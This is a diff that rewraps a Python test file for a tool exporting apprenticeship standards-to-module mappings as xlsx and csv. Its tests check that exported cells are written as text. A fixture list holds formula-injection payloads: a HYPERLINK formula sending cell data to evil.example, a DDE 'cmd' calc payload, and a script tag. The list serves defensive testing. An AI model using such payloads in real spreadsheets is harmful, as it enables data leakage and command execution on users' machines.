@@ -18,9 +18,18 @@ def mapping(snap):
     embedder = embed.ContextualEmbedder()
     structure = programme.read_structure(SPEC.read_bytes(), SPEC.name)
     proposal = coverage.propose(structure.modules, [snap.data.content["ST0116"], snap.data.content["ST0118"]], embedder)
-    rows = coverage.apply_edits(proposal.rows, [
-        {"standard": "ST0116", "code": "B1", "coverage": "partial", "notes": "Delivered in the workplace; see WBL log"},
-        {"standard": "ST0118", "code": "K1", "decision": "Rejected"}])
+    rows = coverage.apply_edits(
+        proposal.rows,
+        [
+            {
+                "standard": "ST0116",
+                "code": "B1",
+                "coverage": "partial",
+                "notes": "Delivered in the workplace; see WBL log",
+            },
+            {"standard": "ST0118", "code": "K1", "decision": "Rejected"},
+        ],
+    )
     return structure, rows
 
 
@@ -38,11 +47,26 @@ def test_workbook_has_the_applicant_sheets(mapping):
     book = load_workbook(io.BytesIO(mapping_sheet.to_xlsx(structure.title, rows, structure.modules, {})))
     assert book.sheetnames == ["KSB mapping", "Qualification structure", "About"]
     header = [c.value for c in book["KSB mapping"][1]]
-    assert header[:10] == ["Standard", "Version", "Type", "Code", "Statement", "Mapped modules", "Mapped outcomes",
-                           "Coverage", "Assessment", "Notes"]
+    assert header[:10] == [
+        "Standard",
+        "Version",
+        "Type",
+        "Code",
+        "Statement",
+        "Mapped modules",
+        "Mapped outcomes",
+        "Coverage",
+        "Assessment",
+        "Notes",
+    ]
     assert book["KSB mapping"].max_row == len(rows) + 1
-    assert [c.value for c in book["Qualification structure"][1]][:5] == ["Code", "Title", "Level", "Credits",
-                                                                         "Core/optional"]
+    assert [c.value for c in book["Qualification structure"][1]][:5] == [
+        "Code",
+        "Title",
+        "Level",
+        "Credits",
+        "Core/optional",
+    ]
 
 
 def test_csv_has_one_row_per_ksb(mapping):
@@ -75,10 +99,13 @@ def test_bad_grade_is_named_with_its_row(mapping):
         mapping_sheet.from_xlsx(broken, "edited.xlsx")
 
 
-@pytest.mark.parametrize("blob, name, message", [
-    (b"PK\x03\x04corrupt", "m.xlsx", "not a readable .xlsx"),
-    (b"Standard,Code\n", "m.csv", "re-open the .xlsx"),
-])
+@pytest.mark.parametrize(
+    "blob, name, message",
+    [
+        (b"PK\x03\x04corrupt", "m.xlsx", "not a readable .xlsx"),
+        (b"Standard,Code\n", "m.csv", "re-open the .xlsx"),
+    ],
+)
 def test_unreadable_sheets(blob, name, message):
     with pytest.raises(SheetError, match=message):
         mapping_sheet.from_xlsx(blob, name)
@@ -93,14 +120,29 @@ def test_a_sheet_without_the_mapping_tab(tmp_path):
         mapping_sheet.from_xlsx(table_xlsx(pd.DataFrame({"a": [1]}), "Other", {}), "other.xlsx")
 
 
-HOSTILE = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1",
-           "=cmd|' /C calc'!A0", "'already quoted", "  padded  ", "<script>alert(1)</script>"]
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
+    "+1+1",
+    "-2+3",
+    "@SUM(1,1)",
+    "\t=1+1",
+    "\r=1+1",
+    "=cmd|' /C calc'!A0",
+    "'already quoted",
+    "  padded  ",
+    "<script>alert(1)</script>",
+]
 
 
 def _formula_cells(blob):
     book = load_workbook(io.BytesIO(blob))  # not data_only: a formula would show as one
-    return [(ws.title, c.coordinate, c.value) for ws in book.worksheets for row in ws.iter_rows() for c in row
-            if c.data_type == "f"]
+    return [
+        (ws.title, c.coordinate, c.value)
+        for ws in book.worksheets
+        for row in ws.iter_rows()
+        for c in row
+        if c.data_type == "f"
+    ]
 
 
 @pytest.mark.parametrize("text", HOSTILE)
@@ -108,11 +150,31 @@ def test_hostile_text_in_every_field_is_exported_as_text_and_reopens_unchanged(t
     from htq.coverage import Evidence, MappingRow
     from htq.programme import Module
 
-    module = Module(code=f"{text}M1", title=f"{text} title", level=4, credits=20, core=True,
-                    outcomes=(f"{text} outcome", "second outcome"), assessment=f"{text} assessment")
-    row = MappingRow("ST0116", "1.1", "knowledge", "K1", f"{text} statement", "partial", "full",
-                     (Evidence(module.code, f"{text} outcome", 0.61),), 0.61, "high", decision=coverage.CHANGED,
-                     notes=f"{text} note", decided_by=f"{text} name", decided_at="2026-12-02 10:00 UTC")
+    module = Module(
+        code=f"{text}M1",
+        title=f"{text} title",
+        level=4,
+        credits=20,
+        core=True,
+        outcomes=(f"{text} outcome", "second outcome"),
+        assessment=f"{text} assessment",
+    )
+    row = MappingRow(
+        "ST0116",
+        "1.1",
+        "knowledge",
+        "K1",
+        f"{text} statement",
+        "partial",
+        "full",
+        (Evidence(module.code, f"{text} outcome", 0.61),),
+        0.61,
+        "high",
+        decision=coverage.CHANGED,
+        notes=f"{text} note",
+        decided_by=f"{text} name",
+        decided_at="2026-12-02 10:00 UTC",
+    )
     blob = mapping_sheet.to_xlsx(f"{text} programme", [row], [module], {"Snapshot": "2026-07-06"})
     assert _formula_cells(blob) == []
     restored = mapping_sheet.from_xlsx(blob, "ksb-mapping.xlsx")
@@ -134,6 +196,8 @@ def test_every_export_writes_text_as_text():
     rows = list(csv.reader(io.StringIO(report.table_csv(frame).decode("utf-8-sig"), newline="")))
     cells = [r[0] for r in rows[1:]]
     assert len(cells) == len(HOSTILE)
-    for cell, text in zip(cells, HOSTILE):  # OWASP: a cell a spreadsheet would read as a formula gets a quote
+    for cell, text in zip(
+        cells, HOSTILE, strict=True
+    ):  # OWASP: a cell a spreadsheet would read as a formula gets a quote
         assert cell == ("'" + text if text.startswith(report.FORMULA_STARTS) else text)
     assert report.csv_cell(-2) == -2 and report.csv_cell("plain") == "plain" and report.csv_cell("=1") == "'=1"
